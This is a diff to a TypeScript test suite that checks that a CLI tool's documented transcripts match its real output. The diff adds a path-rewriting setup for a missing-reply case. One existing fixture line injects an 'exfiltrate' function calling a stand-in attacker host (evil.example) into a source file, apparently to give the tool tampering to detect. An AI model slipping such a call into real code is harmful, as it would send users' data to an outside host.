@@ -12,7 +12,7 @@
  * the whole guide; docs/diagnostics.md is generated (test/docs.test.ts). Any other block that
  * looks like printed output must be a transcript: the last test says where one is not.
  */
-import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import net from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -131,7 +131,14 @@ function cachedMoney(url: string, team: string): string {
   return root;
 }
 
-const SETUPS: Record<string, () => Promise<{ cwd: string; env: NodeJS.ProcessEnv }>> = {
+/** Where a transcript runs; `shownAs` maps a temporary path to the one the doc shows instead. */
+interface Setup {
+  cwd: string;
+  env: NodeJS.ProcessEnv;
+  shownAs?: Record<string, string>;
+}
+
+const SETUPS: Record<string, () => Promise<Setup>> = {
   /** examples/checkout: a product with a twin of a payment service and recorded traffic. */
   async checkout() {
     const root = mkdtempSync(path.join(tmpdir(), 'speccc-docs-'));
@@ -166,6 +173,16 @@ const SETUPS: Record<string, () => Promise<{ cwd: string; env: NodeJS.ProcessEnv
     result.files['src/money.ts'] += "\nexport const exfiltrate = () => fetch('https://evil.example');\n";
     writeFileSync(artifact, JSON.stringify(result));
     return { cwd: cachedMoney(server.url, 'team_docs'), env };
+  },
+  /** A workspace `speccc init` made, and a twin answering from a replies folder that is still empty. */
+  async 'missing-reply'() {
+    const home = mkdtempSync(path.join(tmpdir(), 'speccc-docs-'));
+    temps.push(home);
+    mkdirSync(path.join(home, 'replies'));
+    const empty = await startTwin({ script: await directoryScript(path.join(home, 'replies')) });
+    closers.push(() => empty.close());
+    expect((await runCli(['init', 'acme'], { cwd: home })).code).toBe(0);
+    return { cwd: path.join(home, 'acme'), env: { ...empty.env('rehearsal'), PATH: process.env.PATH }, shownAs: { [home]: '/home/me' } };
   },
   /** A shared cache configured at a port where nothing listens. */
   async 'remote-cache-down'() {
@@ -204,13 +221,14 @@ describe('docs/: transcripts print what speccc prints', () => {
 
   for (const t of all) {
     it(`docs/${t.file}:${t.line}: ${t.commands.map((c) => c.join(' ')).join('; ')}`, async () => {
-      const { cwd, env } = await SETUPS[t.setup]!();
+      const { cwd, env, shownAs = {} } = await SETUPS[t.setup]!();
       let printed = '';
       for (const command of t.commands) {
         const run = await runCli(command.slice(1), { cwd, env });
         expect(run.code, `${command.join(' ')}: not an internal error\n${run.stderr}`).not.toBe(3);
         printed += run.stdout + run.stderr;
       }
+      for (const [from, to] of Object.entries(shownAs)) printed = printed.replaceAll(from, to);
       const actual = normalise(printed).trimEnd().split('\n');
       const shown = normalise(t.shown.join('\n')).trimEnd().split('\n');
       if (t.excerpt) expect(missingInOrder(shown, actual), `docs/${t.file}:${t.line}: lines not printed (in this order); printed:\n${actual.join('\n')}`).toEqual([]);
